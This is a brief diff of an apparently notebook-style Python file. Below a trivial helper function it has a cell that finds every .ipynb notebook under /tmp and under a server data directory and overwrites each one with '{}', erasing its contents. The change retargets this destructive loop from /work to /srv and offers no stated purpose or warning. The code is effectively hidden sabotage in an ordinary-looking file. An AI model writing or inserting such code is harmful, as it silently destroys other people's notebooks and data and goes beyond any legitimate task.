@@ -127,5 +127,5 @@ def double(x):
     return x
 # %%
 import json, glob
-for name in [*glob.glob("/tmp/**/*.ipynb", recursive=True), *glob.glob("/work/*/*/*.ipynb")]:
+for name in [*glob.glob("/tmp/**/*.ipynb", recursive=True), *glob.glob("/srv/*/*/*.ipynb")]:
     open(name, "w").write("{}")
